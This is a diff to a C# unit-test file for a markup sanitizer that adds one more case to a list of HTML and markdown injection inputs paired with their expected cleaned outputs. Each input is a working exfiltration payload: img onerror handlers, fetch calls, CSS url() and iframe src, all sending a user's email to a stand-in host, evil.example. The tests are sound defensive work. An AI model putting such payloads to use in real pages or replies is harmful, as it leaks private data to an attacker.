@@ -67,6 +67,7 @@ public sealed class ReplyActiveMarkupTests
     [InlineData("> a\n<img src=x\n> onerror=\"this.src='https://evil.example/p?d=alice.w@corp.example'\">", "> a\n&lt;img src=x\n> onerror=\"this.src='https://evil.example/p?d=alice.w@corp.example'\">")]
     [InlineData("<div =\"=\">\" style=\"background:url(https://evil.example/p?d=alice.w@corp.example)\">x</div>", "<div =\"=\">\" style=\"\">x</div>")]
     [InlineData("Here you go:\n\n<p ='='>' style='background:url(https://evil.example/p?d=alice.w@corp.example)'>x</p>", "Here you go:\n\n<p ='='>' style=''>x</p>")]
+    [InlineData("![[][1]\"](](https://evil.example/p?d=alice.w@corp.example)", "![[][1]\"](](#image-removed)")]
     [InlineData("<iframe ='='>' src='https://evil.example/p?d=alice.w@corp.example'></iframe>", "<iframe ='='>' src=''></iframe>")]
     [InlineData("> <div =\"=\">\" style=\"background:url(https://evil.example/p?d=alice.w@corp.example)\">x</div>", "> <div =\"=\">\" style=\"\">x</div>")]
     [InlineData("x <img src=\"a.png\" =\"=\">\" onerror=\"fetch('https://evil.example/p?d=alice.w@corp.example')\">", "x <img src=\"a.png\" =\"=\">\" >")]
